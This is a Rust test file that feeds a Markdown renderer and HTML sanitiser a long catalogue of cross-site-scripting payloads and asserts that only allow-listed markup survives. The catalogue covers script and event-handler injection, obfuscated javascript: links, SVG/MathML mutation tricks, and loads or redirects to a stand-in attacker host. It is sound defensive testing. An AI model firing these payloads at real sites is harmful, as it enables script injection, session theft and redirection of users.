//! HTML that wants to run: through Markdown, where it must show as text, and through the
//! allow-list alone, where it must vanish.

use hafan_core::text::{SafeHtml, SourceText, render};

/// Ways in that are known from the field: elements, handlers, addresses, styles, foreign markup,
/// markup that changes when it is parsed twice, broken entities.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<<script>script>alert(1)<</script>/script>",
    "<script>alert(1)",
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert(1)\">",
    "<img src=`x` onerror=alert`1`>",
    "<body onload=alert(1)>",
    "<p onclick=\"alert(1)\" OnMouseOver=alert(1)>x</p>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61script&colon;alert(1)\">x</a>",
    "<a href=\"javascript&Tab;:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"blob:https://a.example/1\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/\\evil.example\">x</a>",
    "<a href=\"https://a.example\" style=\"position:fixed;inset:0\">x</a>",
    "<a href=\"https://a.example\" target=_blank id=x name=y class=\"btn main\">x</a>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<style>*{display:none}</style>",
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example/>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=//evil.example/x.swf></object><embed src=//evil.example/x>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style>\
     <img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<table><td background=javascript:alert(1)><video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee><keygen autofocus onfocus=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60script&#62alert(1)&#60/script&#62",
    "&LT;img src=x onerror=alert(1)&GT;",
    "&#0;&#x110000;&#xD800;&#99999999999;&amp;lt;script&gt;&notanentity;&",
    "<a href=\"https://a.example/\" onmouseover=\"alert(1)\"",
    "<a href='https://a.example/'onclick='alert(1)'>x</a>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "<x onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>x</x>",
    "<p\u{0}onclick=alert(1)>x",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
];

/// The same intentions in Markdown's own words.
const MARKDOWN_ATTACKS: &[&str] = &[
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "![x](javascript:alert(1))",
    "![\"onerror=alert(1)](https://a.example/\"onerror=alert(1)//)",
    "<javascript:alert(1)>",
    "<data:text/html;x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://a.example/\"onmouseover=alert(1)//)",
    "[x](https://a.example \"t\\\" onmouseover=alert(1)\")",
    "[\"><img src=x onerror=alert(1)>](https://a.example)",
    "https://a.example/\"onmouseover=\"alert(1)",
    "https://a.example/'><script>alert(1)</script>",
    "https://a.example/?<script>alert(1)</script>",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "@mair\"><script>alert(1)</script>",
    "#tag\"><script>alert(1)</script>",
    "#tag\u{22}onclick=alert(1)",
    "1\" onclick=alert(1). x",
    "# <script>alert(1)</script>",
    "> <img src=x\n> onerror=alert(1)>",
    "<scr\nipt>alert(1)</scr\nipt>",
    "[a](https://a.example)<script>\n\nalert(1)</script>",
];

fn rendered(text: &str) -> Option<String> {
    let source = SourceText::parse(text, 100_000).ok()?;
    Some(
        render(&source, &|handle| Some(format!("/@{handle}")))
            .html
            .to_string(),
    )
}

/// Every element of a piece of HTML as it stands in the text. Our serialiser writes `<` for
/// marks only, so that splitting at it finds all.
fn elements(html: &str) -> impl Iterator<Item = &str> {
    html.split('<')
        .skip(1)
        .map(|rest| rest.split('>').next().unwrap_or(rest))
}

pub fn assert_harmless(html: &str, origin: &str) {
    let names = [
        "p",
        "br",
        "hr",
        "em",
        "strong",
        "code",
        "pre",
        "blockquote",
        "ul",
        "ol",
        "li",
        "a",
        "span",
    ];
    for element in elements(html) {
        let mut parts = element.trim_start_matches('/').split(' ');
        let name = parts.next().unwrap_or_default();
        assert!(
            names.contains(&name),
            "<{element}> from {origin:?} in {html}"
        );
        let attributes = element
            .split_once(' ')
            .map_or("", |(_, attributes)| attributes);
        for attribute in attributes.split("\" ").filter(|a| !a.is_empty()) {
            let (key, value) = attribute.split_once("=\"").unwrap_or((attribute, ""));
            let is_good = match key {
                "href" => {
                    value.starts_with("http://")
                        || value.starts_with("https://")
                        || value.starts_with("mailto:")
                        || (value.starts_with('/')
                            && !value.starts_with("//")
                            && !value.contains('\\'))
                }
                "class" => value.trim_end_matches('"').split(' ').all(|class| {
                    ["mention", "hashtag", "invisible", "ellipsis", ""].contains(&class)
                }),
                "rel" => value.trim_end_matches('"') == "nofollow noopener noreferrer",
                "start" => value
                    .trim_end_matches('"')
                    .bytes()
                    .all(|b| b.is_ascii_digit()),
                _ => false,
            };
            assert!(is_good, "{key}={value} from {origin:?} in {html}");
        }
        if name == "a" && !element.starts_with('/') {
            assert!(
                element.contains("rel=\"nofollow noopener noreferrer\""),
                "{html}"
            );
        }
    }
}

#[test]
fn hostile_html_in_a_post_shows_as_text() {
    for attack in ATTACKS.iter().chain(MARKDOWN_ATTACKS) {
        for text in [
            (*attack).to_owned(),
            format!("hello {attack} there"),
            format!("> - {attack}"),
            format!("[{attack}](https://a.example)"),
            format!("[x](https://a.example/{attack})"),
            format!("**{attack}**"),
        ] {
            if let Some(html) = rendered(&text) {
                assert_harmless(&html, &text);
            }
        }
    }
}

#[test]
fn hostile_html_does_not_pass_the_allow_list_even_twice() {
    for attack in ATTACKS.iter().chain(MARKDOWN_ATTACKS) {
        for html in [(*attack).to_owned(), format!("<p><em>{attack}</em></p>")] {
            let once = SafeHtml::allow_listed(&html);
            assert_harmless(once.as_str(), &html);
            let twice = SafeHtml::allow_listed(once.as_str());
            assert_eq!(once, twice, "{html}");
        }
    }
}

#[test]
fn our_own_html_passes_the_allow_list_unchanged() {
    let texts = [
        "@mair #Gŵyl https://www.example.org/a/very/long/path/that/goes/on/and/on",
        "# A\n\n> b\n> - c\n>   1. d\n\n```\n<e>\n```\n\n[f](https://a.example?x=1&y=\"2\")",
    ];
    for text in texts {
        let html = rendered(text).expect("a text");
        assert_eq!(SafeHtml::allow_listed(&html).as_str(), html);
    }
}

#[test]
fn deep_foreign_markup_is_cleaned_in_time() {
    let start = now();
    for element in [
        "blockquote",
        "em",
        "p",
        "a href=x",
        "ul><li",
        "table><tr><td",
        "b",
    ] {
        let bomb = format!("<{element}>").repeat(2_000);
        assert_harmless(SafeHtml::allow_listed(&bomb).as_str(), element);
    }
    assert!(start.elapsed().as_secs() < 20, "took {:?}", start.elapsed());
}

#[expect(clippy::disallowed_methods, reason = "the test measures real time")]
fn now() -> std::time::Instant {
    std::time::Instant::now()
}
